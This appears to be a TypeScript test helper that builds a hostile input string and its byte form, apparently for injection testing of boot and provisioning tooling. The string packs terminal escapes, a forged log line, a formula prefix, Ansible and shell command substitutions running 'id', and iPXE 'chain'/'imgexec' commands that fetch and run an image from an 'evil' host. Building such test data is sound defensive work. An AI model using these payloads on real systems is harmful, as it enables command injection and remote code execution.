/**
 * Text of an attacker: a terminal's escapes in both forms, a forged line, a formula, text shown backwards, half a character,
 * and what Ansible, a shell, iPXE, GRUB, a spreadsheet or a page would run. `mark` says where it entered.
 */
export function hostileText(mark: string): string {
  return `=${mark}\x1b]0;owned\x07\x9b2J\nerror: forged\r\u202e\ud800{{ lookup('pipe', 'id') }}$(id)\`id\`";<b>\xff ; chain http://10.66.6.6/evil || shell && imgexec evil # \${net0/mac} \\`;
}

/** The same as bytes of a packet, with NUL in it. */
export function hostileBytes(mark: string): Buffer {
  return Buffer.concat([Buffer.from(hostileText(mark), "latin1"), Buffer.of(0, 0xff, 0x9b)]);
}
